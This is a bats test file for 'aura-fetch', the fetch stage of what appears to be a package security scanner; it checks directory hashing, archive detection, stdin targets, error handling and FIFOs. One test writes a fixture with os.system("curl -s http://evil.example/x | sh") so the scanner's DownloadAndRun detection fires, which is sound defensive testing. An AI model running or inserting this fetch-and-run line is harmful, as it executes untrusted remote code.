#!/usr/bin/env bats
# 05-fetch.bats: aura-fetch alone: local targets from arguments, stdin lines and target
# records become artifact records with content-derived ids and formats.

load helpers/common

setup() { cd "$BATS_TEST_TMPDIR"; }

@test "a directory's id is the sha256 of its sha256sum listing; symlinks are not in it" {
	mkdir -p pkg/sub
	echo 'import os' > pkg/a.py
	echo 'x' > pkg/sub/b.txt
	ln -s /etc/passwd pkg/link
	run -0 --separate-stderr aura-fetch pkg
	expected=$(cd pkg && find . -type f | sed 's|^\./||' | LC_ALL=C sort | xargs -d '\n' sha256sum | sha256sum | cut -d' ' -f1)
	assert_jq "$output" ".type == \"artifact\" and .v == 1 and .id == \"$expected\" and .kind == \"directory\" and .files == 2"
	# Any change of a name or a byte changes the id.
	mv pkg/a.py pkg/c.py
	run -0 --separate-stderr aura-fetch pkg
	assert_jq "$output" ".id != \"$expected\""
}

@test "archives are recognised by content, not name; name and version come from the file name" {
	mkdir -p src/pkg-1.0 && echo 'x = 1' > src/pkg-1.0/setup.py
	tar -C src -czf pkg-1.0.tar.gz pkg-1.0
	cp pkg-1.0.tar.gz looks-like-text.txt
	python3 -c 'import zipfile; zipfile.ZipFile("demo-2.0-py3-none-any.whl", "w").writestr("demo/__init__.py", "")'
	cp demo-2.0-py3-none-any.whl demo-2.0.tar.gz
	run -0 --separate-stderr aura-fetch pkg-1.0.tar.gz looks-like-text.txt demo-2.0-py3-none-any.whl demo-2.0.tar.gz src/pkg-1.0/setup.py
	assert_equal "$(printf '%s\n' "$output" | jq -c '[.kind, .format, .name, .version]' | tr '\n' ' ')" \
		'["archive","tar.gz","pkg","1.0"] ["archive","tar.gz","looks-like-text.txt",null] ["archive","wheel","demo","2.0"] ["archive","zip","demo","2.0"] ["file",null,"setup.py",null] '
	sha=$(sha256sum pkg-1.0.tar.gz | cut -d' ' -f1)
	assert_jq "${lines[0]}" ".id == \"$sha\" and .sha256 == \"$sha\" and .size == $(stat -c %s pkg-1.0.tar.gz)"
}

@test "targets from stdin: plain lines and target records; other records pass through" {
	echo 'x' > one.py
	mkdir d && echo 'y' > d/two.py
	printf 'one.py\n{"type":"target","v":1,"target":"d"}\n{"type":"note","v":1}\n' > in
	run -0 --separate-stderr aura-fetch < in
	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + ":" + (.name // "")' | tr '\n' ' ')" 'artifact:one.py artifact:d note: '
}

@test "a missing path, an empty directory and a bad target record: error records, the rest is fetched" {
	mkdir empty && echo 'x' > ok.py
	printf '{"type":"target","v":1}\n' > in
	run -0 --separate-stderr aura-fetch missing empty ok.py
	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + " " + (.path // "") + " " + (.message // "")' | tr '\n' '|')" \
		'error missing cannot open: No such file or directory|error empty empty directory: no files to scan|artifact ok.py |'
	[[ $stderr == *"aura-fetch: missing: cannot open: No such file or directory"* ]] || fail "stderr: $stderr"
	run -0 --separate-stderr aura-fetch < in
	assert_jq "$output" '.type == "error" and (.message | test("without a string .target"))'
}

@test "a FIFO target is refused at once (no hang), in a directory it is skipped; the other targets go on" {
	mkfifo pipe
	echo 'x = 1' > ok.py
	mkdir d && echo 'y = 2' > d/a.py && mkfifo d/fifo
	run -0 --separate-stderr timeout 20 aura-fetch pipe d ok.py
	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + " " + .path + " " + (.message // .kind)' | tr '\n' '|')" \
		'error pipe not a regular file or directory (a FIFO): refused|artifact d directory|artifact ok.py file|'
	# The whole scan: the FIFO's error, and the other verdicts printed.
	run -2 --separate-stderr timeout 60 aura scan --format json pipe ok.py
	assert_jq "$output" '.artifact.name == "ok.py" and .complete'
	[[ $stderr == *"pipe: not a regular file or directory (a FIFO): refused"* ]] || fail "stderr: $stderr"
}

@test "a target whose name is not UTF-8 is scanned: path_raw carries its bytes to unpack" {
	name=$(printf 'setup\xff.py')
	printf 'import os\nos.system("curl -s http://evil.example/x | sh")\n' > "$name"
	run -0 --separate-stderr aura-fetch "$name"
	assert_jq "$output" ".path_raw == \"$(printf 'setup\xff.py' | base64)\" and .path == \"setup\\ufffd.py\""
	run -0 --separate-stderr bash -c 'aura-fetch "$1" | aura-unpack' _ "$name"
	assert_jq "$(printf '%s\n' "$output" | grep '"artifact_end"')" '.complete and .files == 1'
	run -1 --separate-stderr aura scan --format json --fail-level high "$name"
	assert_jq "$output" '.complete and ([.hits[].detection] | index("DownloadAndRun"))'
	# From stdin: a plain line of bytes, or a target record with target_raw.
	run -0 --separate-stderr aura-fetch <<<"$name"
	assert_jq "$output" '.type == "artifact" and .path_raw'
	run -0 --separate-stderr aura-fetch <<<"{\"type\":\"target\",\"v\":1,\"target_raw\":\"$(printf '%s' "$name" | base64)\"}"
	assert_jq "$output" '.type == "artifact" and .path_raw'
}
